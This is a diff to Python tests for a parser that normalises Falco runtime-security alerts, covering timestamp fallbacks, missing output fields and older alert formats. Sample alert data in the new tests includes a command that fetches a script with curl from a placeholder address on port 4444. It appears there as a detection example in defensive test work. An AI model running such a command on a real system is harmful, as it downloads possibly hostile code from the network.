@@ -46,6 +46,7 @@ def test_malformed_time_falls_back_to_microsecond_evt_time(corpora: Path) -> Non
     (record,) = load_values(corpora / WEBSITE / "extend-falco-outputs-with-falcosidekick.jsonl")
     e = _event(record)
     assert e.time == 1_618_347_519_000_000_000  # 2021-04-13T20:58:39Z
+    assert e.time_source == "output_fields.evt.time"
     assert e.id == make_id("falco", None, 1_618_347_519_000_000_000, "Fake rule", "A more realistic test event")
     assert (e.source, e.kind, e.format) == ("falco", "runtime_alert", "falco-json")
     assert (e.rule, e.priority, e.sensor_source, e.node, e.tags) == ("Fake rule", "Error", None, None, None)
@@ -57,7 +58,7 @@ def test_malformed_time_falls_back_to_microsecond_evt_time(corpora: Path) -> Non
 def test_syscall_alert_maps_process_and_container(corpora: Path) -> None:
     (record,) = load_values(corpora / WEBSITE / "docs_concepts_outputs_channels.jsonl")
     e = _event(record)
-    assert e.time == 1_685_022_245_478_445_995
+    assert (e.time, e.time_source) == (1_685_022_245_478_445_995, None)
     assert (e.kind, e.sensor_source, e.rule, e.priority) == (
         "runtime_alert",
         "syscall",
@@ -251,6 +252,11 @@ def test_unusable_records_raise_normalize_error(record: Any) -> None:
         list(SOURCE.normalize(record))
 
 
+def test_no_time_anywhere_names_every_field_looked_at() -> None:
+    with pytest.raises(NormalizeError, match=r"time=None, and no output_fields evt\.time, evt\.rawtime or evt\.time\.iso8601"):
+        SOURCE.normalize({"rule": "r", "priority": "Warning", "output": "x", "output_fields": {"proc.name": "sh"}})
+
+
 def test_detect_rejects_other_sources(corpora: Path) -> None:
     others = [corpora / "falco/k8s_audit", corpora / "k8s-audit", corpora / "hubble", corpora / "otel", corpora / "tetragon"]
     for path in sorted(p for d in others for p in d.rglob("*") if p.is_file()):
@@ -289,3 +295,84 @@ def test_normalize_returns_an_event_or_raises_normalize_error(value: dict[str, A
     except NormalizeError:
         return
     assert len(events) == 1 and events[0].kind in KINDS
+
+
+# -- optional fields: Falco's json_include_* switches, older versions, falcosidekick --------------------
+
+SIDEKICK = FIXTURES / "falco/falcosidekick_outbound.json"
+
+
+def _fixture() -> dict[str, Any]:
+    (record,) = load_values(SIDEKICK)
+    assert isinstance(record, dict)
+    return copy.deepcopy(record)
+
+
+def test_alert_without_time_is_dated_by_evt_time() -> None:
+    record = _fixture()
+    del record["time"]
+    assert SOURCE.detect(record)
+    e = _event(record)
+    assert (e.time, e.time_source) == (1_740_909_731_204_518_337, "output_fields.evt.time")
+
+
+def test_falcosidekick_zero_time_falls_back_to_evt_time() -> None:
+    record = _fixture() | {"time": "0001-01-01T00:00:00Z"}  # Go's zero time.Time
+    e = _event(record)
+    assert (e.time, e.time_source) == (1_740_909_731_204_518_337, "output_fields.evt.time")
+
+
+def test_iso8601_evt_time_when_time_format_iso_8601_is_on() -> None:
+    record = {
+        "rule": "r",
+        "priority": "Notice",
+        "output": "x",
+        "output_fields": {"evt.time.iso8601": "2025-03-02T10:02:11.204518337Z"},
+    }
+    e = _event(record)
+    assert (e.time, e.time_source) == (1_740_909_731_204_518_337, "output_fields.evt.time.iso8601")
+
+
+def test_alert_without_output_uses_message_for_summary_and_identity() -> None:
+    # json_include_output_property: false, json_include_message_property: true (Falco 0.39+).
+    record = _fixture()
+    del record["output"], record["uuid"]
+    record["message"] = "Disallowed outbound connection destination (connection=10.244.1.17:51234->203.0.113.50:4444)"
+    assert SOURCE.detect(record)
+    e = _event(record)
+    assert e.summary == record["message"]
+    assert e.id == make_id("falco", "worker-2", e.time, "Unexpected outbound connection destination", record["message"])
+    assert "message" not in _extra(e)
+
+
+def test_alert_with_only_the_always_written_keys_is_detected_and_read() -> None:
+    # output, tags and output_fields all turned off: time, rule, priority, source, hostname remain.
+    record = {
+        "hostname": "worker-2",
+        "priority": "Warning",
+        "rule": "Write below etc",
+        "source": "syscall",
+        "time": "2025-01-01T00:00:00Z",
+    }
+    assert SOURCE.detect(record)
+    e = _event(record)
+    assert (e.summary, e.node, e.kind, e.time_source) == ("Write below etc", "worker-2", "runtime_alert", None)
+
+
+def test_alert_without_output_or_message_builds_a_summary_from_its_fields() -> None:
+    record = _fixture()
+    del record["output"], record["uuid"]
+    e = _event(record)
+    assert e.summary == (
+        "Unexpected outbound connection destination: /usr/bin/curl -s http://203.0.113.50:4444/x.sh by www-data"
+        " in shop/web-7c9d8b6f5-x2k4q"
+    )
+    other = _fixture() | {"output_fields": {**_fixture()["output_fields"], "proc.pid": 1}}
+    del other["output"], other["uuid"]
+    assert _event(other).id != e.id  # the fields tell two such alerts apart
+
+
+def test_null_output_fields_and_no_hostname_of_older_falco() -> None:
+    record = {"output": "10:02:11.204518337: Notice x", "priority": "Notice", "rule": "r", "time": "2025-01-01T00:00:00Z"}
+    e = _event(record | {"output_fields": None})
+    assert (e.node, e.summary, e.binary) == (None, "x", None)
